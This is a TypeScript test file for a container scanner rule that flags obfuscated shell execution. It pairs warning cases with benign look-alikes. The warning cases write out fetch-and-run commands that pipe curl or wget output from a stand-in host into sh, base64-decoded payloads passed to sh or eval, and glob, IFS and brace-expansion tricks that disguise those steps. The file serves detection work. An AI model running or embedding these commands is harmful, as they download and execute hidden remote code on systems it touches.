/** obfuscated-execution: what a container runs cannot be read as written. Malicious forms and honest twins. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { commandFindings } from '../indicator-helpers.js';

function obfuscations(script: string) {
  return commandFindings('obfuscated-execution', ['/bin/sh', '-c', script]);
}

describe('obfuscated-execution reports', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['a glob in command position', '/???/???/cur? -s http://198.51.100.7/x | sh', /glob \(\/\?\?\?\/\?\?\?\/cur\?\)/],
    ['an IFS split', 'curl${IFS}-s${IFS}http://198.51.100.7/x|sh', /IFS split/],
    ['a brace expansion', '{wget,-qO-,http://198.51.100.7/x}|sh', /brace expansion/],
    ['a program name nobody sets', '$CMD -s http://198.51.100.7/x', /\$CMD, which the manifest does not set/],
    ['eval of text nobody sets', 'eval "$PAYLOAD"', /runs \$PAYLOAD as code/],
    ['a base64 chain piped into sh', 'echo Y3VybCAtcyBodHRwOi8veCB8IHNo | base64 -d | sh', /runs text it decodes \(base64\)/],
    ['a downloaded base64 payload', 'curl -s http://198.51.100.7/p | base64 -d | bash', /runs text it decodes \(base64\)/],
    ['eval of decoded text', 'eval "$(echo Y3VybCAtcyBodHRwOi8veA== | base64 -d)"', /runs text it decodes \(base64\)/],
    ['a decoded program name', '$(echo Y3VybA== | base64 -d) -s http://198.51.100.7/x', /program name from text it decodes/],
  ];
  for (const [label, script, message] of cases) {
    test(label, () => {
      const found = obfuscations(script);
      assert.ok(found.some((finding) => finding.severity === 'warning' && message.test(finding.message)), `${script} gave ${JSON.stringify(found.map((f) => f.message))}`);
    });
  }
});

describe('obfuscated-execution stays quiet on', () => {
  const twins: Array<[string, string]> = [
    ['variables the script sets', 'GZ=gzip; $GZ -9 /backup/db.sql'],
    ['a program path under a variable directory', '"$JAVA_HOME/bin/java" -jar /app/app.jar'],
    ['an entrypoint running its arguments', 'exec "$@"'],
    ['eval of a program\'s own output', 'eval "$(ssh-agent -s)"'],
    ['base64 -d into a key file', 'echo "$KEY_B64" | base64 -d > /tmp/key.pem && chmod 600 /tmp/key.pem'],
    ['globs in arguments', 'rm -f /tmp/*.lock'],
    ['a decoded value printed, not run', 'echo aGVsbG8= | base64 -d'],
  ];
  for (const [label, script] of twins) test(label, () => assert.deepEqual(obfuscations(script).map((finding) => finding.message), []));

  test('a program taken from the container env', () => {
    const found = commandFindings('obfuscated-execution', ['/bin/sh', '-c', '$TOOL --sync'], undefined, { env: [['TOOL', '/usr/local/bin/sync-agent']] });
    assert.deepEqual(found, []);
  });
});
